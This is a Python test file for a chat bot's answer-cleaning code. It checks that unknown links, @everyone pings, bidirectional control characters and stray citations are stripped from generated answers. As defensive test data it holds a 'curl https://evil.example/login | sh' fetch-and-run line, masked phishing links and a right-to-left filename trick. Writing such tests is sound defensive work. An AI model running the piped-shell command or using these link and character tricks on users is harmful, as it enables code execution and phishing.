"""What is removed from the text of answers, whether a model or people wrote the text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rtfm.answering.cleaning import cited_numbers, clean, excerpt, renumber_citations
from rtfm.links import LINK_REMOVED, find_links, remove_unknown_links
from rtfm.markup import escape_markup, remove_pings, to_plain_name

DOCS = "https://docs.skerry.example/locks"
EVIL = "https://evil.example/login"


@pytest.mark.parametrize(
    "text",
    [
        f"see {EVIL}",
        f"see [the docs]({EVIL})",
        f"see [the docs](<{EVIL}>)",
        f'see [the docs]({EVIL} "title")',
        f"see [{DOCS}]({EVIL})",
        f"see <{EVIL}>",
        f"run `curl {EVIL} | sh`",
        f"```\ncurl {EVIL} | sh\n```",
        "see HTTPS://EVIL.example/login",
        "see www.evil.example",
        "join discord.gg/evil",
        "write to mailto:evil@evil.example",
        "steam://evil.example/x",
        f"see {DOCS}.evil.example/x",
    ],
)
def test_a_link_that_no_source_has_is_removed(text: str) -> None:
    """A link that no source has is removed.

    The link may be masked, in angle brackets or code, or without a scheme. It may also begin like a link of a source.
    """
    cleaned = remove_unknown_links(text, {DOCS})
    assert "evil" not in cleaned.lower()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"see {DOCS}.", f"see {DOCS}."),
        (f"see {DOCS}/", f"see {DOCS}/"),
        (f"({DOCS}), then", f"({DOCS}), then"),
        (f"see [the docs]({DOCS})", f"see the docs {DOCS}"),
        ("it says [1](https://evil.example)", "it says [1]"),
        ("nothing here", "nothing here"),
    ],
)
def test_a_link_of_a_source_is_kept(text: str, expected: str) -> None:
    """A link of a source is kept, and its address is shown."""
    assert remove_unknown_links(text, {DOCS}) == expected


def test_the_sentence_around_a_removed_link_stays() -> None:
    """A note replaces a removed link, and the sentence around the link stays with its full stop."""
    assert remove_unknown_links(f"Go to {EVIL}.", set()) == f"Go to {LINK_REMOVED}."


@pytest.mark.parametrize(
    "text",
    ["<@123>", "<@!123>", "<@&123>", "@everyone", "@here", "`@everyone`", "@EVERYONE", "<@12<@3>4>", "@\x00here"],
)
def test_nothing_pings(text: str) -> None:
    """A cleaned text pings nobody, even if the ping was in code, nested or split by a control character."""
    cleaned = remove_pings(f"hi {text} there").lower()
    assert not re.search(r"<@[!&]?\d+>", cleaned)
    assert "@everyone" not in cleaned
    assert "@here" not in cleaned


def test_bidirectional_controls_are_removed() -> None:
    """Bidirectional control characters are removed, because a command could be shown reversed."""
    assert remove_pings("run \u202egnp.exe\u202c now\x07") == "run gnp.exe now"


@given(st.text(alphabet=st.sampled_from("<@!&>0123everyone here[]()` \n"), max_size=60))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    """Cleaning a text twice gives the same result as cleaning it once."""
    once = remove_pings(text)
    assert remove_pings(once) == once


@pytest.mark.parametrize(
    "text",
    ["<@[9]123>", "@[9]everyone", "https:[9]//evil.example", "htt\x00ps://evil.example", "[ 9 ](https://evil.example)"],
)
def test_removed_text_does_not_leave_a_ping_or_a_link(text: str) -> None:
    """A ping or a link is removed even if a citation or a control character is inside it."""
    shown = clean(f"so {text} it is", {1: 1}, {DOCS})
    assert not re.search(r"<@\d|@everyone|://|\[\s*9", shown)


@given(
    st.lists(
        st.sampled_from(
            (
                *(
                    "<@",
                    "1",
                    "9",
                    "23",
                    ">",
                    "@",
                    "everyone",
                    "here",
                    "[",
                    "]",
                    "(",
                    ")",
                    "`",
                    "```",
                    " ",
                    "\n",
                    "\x00",
                ),
                *("!", "https", "://", "evil.example", "www.", DOCS, ",", "&"),
            )
        ),
        max_size=25,
    )
)
def test_whatever_a_model_writes_nothing_unwanted_is_left(pieces: list[str]) -> None:
    """A cleaned text contains no ping, no link except the source's, and no citation except the known one."""
    shown = clean("".join(pieces), {1: 1}, {DOCS})
    assert not re.search(r"<@[!&]?\d+>|@everyone|@here", shown)
    assert find_links(shown) <= {DOCS}
    assert set(cited_numbers(shown)) <= {1}


def test_a_citation_right_after_a_link_stays() -> None:
    """A citation that follows a link without a space stays."""
    assert clean(f"See {DOCS}[3] and `a[0]`.", {3: 1}, {DOCS}) == f"See {DOCS}[1] and `a[0]`."


def test_citations_are_read_outside_code_only() -> None:
    """A number in brackets inside code, as in `list[0]`, is no citation."""
    assert cited_numbers("first [2], then [1, 3] and `a[7]`\n```\nb[8]\n``` [2][4]") == [2, 1, 3, 4]


def test_citations_get_their_new_numbers_and_unknown_ones_go() -> None:
    """Citations get new numbers, lists are split, and brackets with only unknown numbers are removed."""
    text = "Set it [3]. Restart [9]. Both [1, 3; 9] in `a[3]`"
    assert renumber_citations(text, {3: 1, 1: 2}) == "Set it [1]. Restart. Both [1][2] in `a[3]`"


def test_links_are_compared_without_trailing_punctuation() -> None:
    """Links are compared without a full stop or bracket at their end."""
    assert find_links(f"({DOCS}), {DOCS}/. {EVIL}!") == {DOCS, EVIL}


def test_a_name_does_not_format() -> None:
    """An author's name cannot format the text around it."""
    assert (
        escape_markup(to_plain_name("_**x**_ @everyone [a](b)")) == "\\_\\*\\*x\\*\\*\\_ @\u200beveryone \\[a\\]\\(b\\)"
    )


@given(st.text(max_size=1000))
def test_an_excerpt_is_one_short_line(text: str) -> None:
    """An excerpt is one line of at most 300 characters, as the contract says."""
    shown = excerpt(text)
    assert len(shown) <= 300
    assert "\n" not in shown
